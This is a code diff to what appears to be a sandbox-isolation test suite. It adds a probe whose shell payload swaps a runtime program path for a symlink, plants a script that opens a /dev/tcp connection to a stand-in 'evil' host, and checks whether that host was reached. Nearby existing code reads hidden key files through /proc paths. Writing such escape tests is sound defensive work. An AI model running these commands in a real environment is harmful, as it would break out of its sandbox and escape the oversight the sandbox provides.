@@ -6,9 +6,10 @@ import { createHash } from "node:crypto";
 import { existsSync, linkSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
 import { join } from "node:path";
 import type { Logged } from "../../../journeys/stage.ts";
-import { changed } from "../../oracles.ts";
+import { changed, reached } from "../../oracles.ts";
 import type { After, Place, Probe } from "../../probe.ts";
 import type { Rig } from "../../rig/rig.ts";
+import { evil } from "../../rig/world.ts";
 
 /** Unlike the token, in no command. */
 const canaryOf = ({ token }: Rig): string => createHash("sha256").update(`hidden ${token}`).digest("hex").slice(0, 24);
@@ -55,6 +56,11 @@ function later(rig: Rig, path: string): void {
 
 const waiting = (path: string, patience = 0): string =>
   `: > begun; for i in $(seq 40); do test -e ${path} && sleep ${patience}; cat ${path} >> loot; sleep 0.1; done`;
+
+/** A program of the tool's own, laid over the one that covers: whoever begins it for a cover begins it outside, past the gateway. */
+const laidOver = `mv /run/postern /run/old; mkdir -p /tmp/m/blank; ln -s /tmp/m /run/postern; ln -s /tmp/m/blank /run/postern/blank
+printf '#!/bin/bash\\nexec 3<>/dev/tcp/${evil.ip}/8080; echo x >&3\\n' > /tmp/m/blank/file; chmod 755 /tmp/m/blank/file
+ln -s /usr/bin/mount first.hidden; for i in $(seq 15); do sleep 0.1; echo x > then-$i.hidden; done; sleep 1`;
 
 export const hidden: readonly Probe[] = [
   {
@@ -110,6 +116,15 @@ cat /proc/self/cwd/hidden/key /proc/*/root${work}/hidden/key /proc/*/cwd/setting
     title: "read a file of a hidden name that came elsewhere while the session runs, a second later",
     prepare: (rig) => later(rig, "sub/late.hidden"),
     inside: () => waiting("sub/late.hidden", 1),
+  },
+  {
+    ...base,
+    id: "hidden-cover-laid-over",
+    title: "lay its own program over the one that covers what comes late, and have it begun outside",
+    source: "own",
+    uncontrolled: "nothing covers anything there",
+    inside: () => laidOver,
+    landed: reached(evil.ip),
   },
   {
     ...base,
